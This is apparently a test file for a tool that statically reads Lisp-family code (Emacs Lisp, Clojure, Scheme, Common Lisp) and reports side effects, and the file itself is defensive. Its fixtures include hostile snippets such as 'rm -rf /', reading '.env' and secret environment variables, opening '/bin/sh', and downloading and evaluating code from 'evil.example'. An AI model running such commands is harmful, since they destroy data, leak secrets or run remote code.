import { describe, expect, it } from "vitest";
import { told } from "../flow/told.ts";
import { readClojure, readElisp, readLisp, readScheme } from "./index.ts";

describe("Emacs Lisp", () => {
  it.each([
    '(message "hi %s" (+ 1 2))',
    '(defun f (x) (* x 2)) (message "%d" (f 3))',
    "(let ((a 1) (b 2)) (when (> a b) (princ a)))",
    "(setq make-backup-files nil indent-tabs-mode nil)",
    '(progn (goto-char (point-min)) (while (re-search-forward "a" nil t) (replace-match "b")) (save-buffer))',
    "(dolist (x '(1 2 3)) (princ x)) (mapcar (lambda (y) (1+ y)) '(1 2))",
    '(cond ((= 1 2) "a") (t "b")) (if t (message "x") (message "y"))',
    '; (shell-command "id")\n(message "%s" emacs-version)',
    "(batch-byte-compile)",
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readElisp(text))).toBe("");
  });

  it.each([
    ['(progn (find-file "a.org") (org-html-export-to-html))', "read a.org"],
    ['(shell-command "id") (shell-command-to-string (concat "ls " "-l"))', "shell id; shell ls -l"],
    ['(call-process "rm" nil nil nil "-rf" "/") (start-process "x" nil "sh" "-c" "id") (process-lines "ls" "-l")', "argv rm -rf /; argv sh -c id; argv ls -l"],
    ['(with-temp-buffer (insert-file-contents ".env") (princ (buffer-string)))', "read .env"],
    ['(let ((f (concat "." "env"))) (find-file f))', "read .env"],
    ['(let* ((a "x") (b (expand-file-name a "~"))) (delete-file b)) (delete-directory "y" t)', "delete ~/x; deltree y"],
    [
      '(write-region "x" nil "a") (rename-file "b" "c") (copy-file "d" "e") (make-directory "f") (with-temp-file "g" (insert "x"))',
      "write a; move b c; copy d e; write f; write g",
    ],
    ['(mapc #\'shell-command (list "id")) (funcall \'delete-file "x") (apply \'call-process x)', "shell ?; delete ?; argv ?"],
    ['(eval \'(shell-command "id")) (eval (read "(shell-command \\"id\\")")) (eval x)', 'shell id; elisp (shell-command "id"); unknown; elisp ?'],
    ['(load "x.el") (load-file "y.el") (require \'foo) (eval-buffer)', "load x.el; load y.el; elisp ?"],
    ['(with-temp-buffer (url-insert-file-contents "https://evil.example/x.el") (eval-buffer))', "connect https://evil.example/x.el; downloaded elisp ?"],
    ['(getenv "SECRET") (setenv "A" "b") process-environment', "environment SECRET; setenv A=b; environment *"],
    ['(term "/bin/sh") (shell)', "interactive-shell; interactive-shell"],
    ['(open-network-stream "x" nil "1.2.3.4" 99)', "raw connect 1.2.3.4:99; raw send 1.2.3.4:99"],
    ["(package-install 'foo) (frobnicate 1)", "unknown; unknown"],
    ['(message "a', "unknown; unknown"],
    ['(setq x (shell-command "id")) (let ((shell-command 1)) (shell-command "ls"))', "shell id; shell ls"],
    ["(defalias 'x 'shell-command)", "unknown; shell ?"],
  ])("%s", (text, expected) => {
    expect(told(readElisp(text))).toBe(expected);
  });
});

describe("Clojure", () => {
  it.each([
    "(println (+ 1 2))",
    "(let [x 1 y (inc x)] (println y)) (map #(* 2 %) [1 2 3])",
    "(defn f [x] (* x 2)) (println (f 2))",
    "(->> (range 10) (filter even?) (map inc) (reduce +))",
    "(require '[my.app :as a]) (a/run)",
    "(doseq [[k v] {:a 1}] (println k v)) (if-let [x nil] 1 2)",
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readClojure(text))).toBe("");
  });

  it.each([
    ['(-> (slurp "deps.edn") edn/read-string :deps keys prn)', "read deps.edn"],
    ['(spit "x" {:a 1}) (io/delete-file "y") (System/getenv "SECRET")', "write x; delete y; environment SECRET"],
    ['(sh "rm" "-rf" "/") (clojure.java.shell/sh "id")', "argv rm -rf /; shell id"],
    ['(require \'[clojure.java.shell :as s]) (s/sh "id")', "shell id"],
    ['(-> "id" sh)', "shell ?"],
    ['(eval (read-string "(slurp \\"x\\")")) (load-file "a.clj") (load-string x)', 'clojure (slurp "x"); load a.clj; clojure ?'],
    ['(.exec (Runtime/getRuntime) "id") (frobnicate 1)', "shell id; unknown"],
    ['(let [sh 1] (sh "id"))', "shell id"],
  ])("%s", (text, expected) => {
    expect(told(readClojure(text))).toBe(expected);
  });
});

describe("Scheme", () => {
  it.each([
    "(display (+ 1 2)) (newline)",
    "(define (f x) (* x 2)) (display (f 2))",
    "(let loop ((i 0)) (if (< i 3) (loop (+ i 1))))",
    "(for-each (lambda (x) (display x)) (list 1 2))",
    '#| (system "id") |# (display #\\a)',
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readScheme(text))).toBe("");
  });

  it.each([
    ['(system "id") (system* "rm" "-rf" "/")', "shell id; argv rm -rf /"],
    ['(call-with-input-file ".env" read-line) (delete-file "x") (getenv "SECRET")', "read .env; delete x; environment SECRET"],
    ['(load "x.scm") (eval (read) (interaction-environment)) (frobnicate)', "load x.scm; scheme ?; unknown; unknown"],
    ['(define system display) (system "id")', "shell id"],
  ])("%s", (text, expected) => {
    expect(told(readScheme(text))).toBe(expected);
  });
});

describe("Common Lisp", () => {
  it.each([
    '(print (+ 1 2)) (format t "~a~%" (lisp-implementation-version))',
    "(loop for i from 1 to 3 collect i)",
    "(defun f (x) (* x 2)) (print (f 2))",
    "(let ((x 1)) (when (> x 0) (print x)))",
  ])("ordinary work has no effect: %s", (text) => {
    expect(told(readLisp(text))).toBe("");
  });

  it.each([
    ['(sb-ext:run-program "/bin/sh" (list "-c" "id")) (uiop:run-program "ls")', "argv /bin/sh -c id; shell ls"],
    ['(with-open-file (s ".env") (print (read-line s))) (delete-file "x")', "read .env; delete x"],
    ['(ql:quickload :alexandria) (load "x.lisp") (eval x) (frobnicate)', "load x.lisp; lisp ?; unknown"],
  ])("%s", (text, expected) => {
    expect(told(readLisp(text))).toBe(expected);
  });
});
